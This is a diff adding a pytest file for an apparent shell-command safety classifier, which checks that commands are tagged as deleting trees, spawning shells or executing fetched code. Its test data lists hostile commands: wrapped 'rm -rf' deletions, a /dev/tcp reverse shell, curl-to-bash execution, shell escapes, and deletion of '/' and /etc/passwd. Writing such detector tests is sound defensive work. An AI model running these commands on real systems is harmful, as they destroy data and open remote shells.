@@ -1,0 +1,60 @@
+"""Code given to interpreters."""
+
+import pytest
+
+from tests.support.commands import facts_of, running
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "bash -c 'rm -rf src'",
+        "bash -c 'rm -rf $0' src",
+        "bash -s <<< 'rm -rf src'",
+        "echo 'rm -rf src' | sh",
+        "echo 'rm -rf src' > x; sh x",
+        "echo 'rm -rf src' > x; . ./x",
+        "python3 -c \"os.system('rm -rf src')\"",
+        "python3 <<< \"os.system('rm -rf src')\"",
+        "echo \"os.system('rm -rf src')\" | python3",
+        "PAGER='rm -rf src' man x",
+        "export GIT_SSH_COMMAND='rm -rf src'",
+    ],
+)
+def test_the_inner_command_is_judged(command: str) -> None:
+    assert "deletes-tree" in facts_of(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "fact"),
+    [
+        ("bash", "spawns-shell"),
+        ("bash -i", "spawns-shell"),
+        ("sudo bash", "root-shell"),
+        ("cpulimit -l 9 -- /bin/sh", "escapes-to-shell"),
+        ("python3 -c 'pty.spawn(\"/bin/sh\")'", "escapes-to-shell"),
+        ("python3", "interactive"),
+        ("sh >/dev/tcp/h/1 <&1", "reverse-shell"),
+        ('bash -c "$(curl x.example)"', "executes-fetched"),
+        ("bash <(base64 -d x)", "executes-decoded"),
+        ("awk '{ print | \"sh\" }' x", "executes-input"),
+        ("python3 -c \"shutil.rmtree('/')\"", "deletes-root"),
+        ("perl -e 'unlink(\"/etc/passwd\")'", "writes-system"),
+    ],
+)
+def test_facts(command: str, fact: str) -> None:
+    assert fact in facts_of(command)
+
+
+@pytest.mark.parametrize(
+    "command", ["docker exec -it box bash", "bash a.sh", "bash -n a.sh", "ssh host", "python3 a.py", "echo ls | bash"]
+)
+def test_ordinary_use(command: str) -> None:
+    assert not facts_of(command) & {"spawns-shell", "escapes-to-shell", "root-shell", "interactive", "executes-input"}
+
+
+def test_code_and_language_are_on_the_node() -> None:
+    node = running("python3 -c 'print(1)'")[0]
+    assert (node.language, node.inline_code) == ("python", "print(1)")
+    assert running("curl x | bash")[0].pipes_into == "bash"
+    assert running('bash -c "$(curl x)"')[0].pipes_into == "bash"
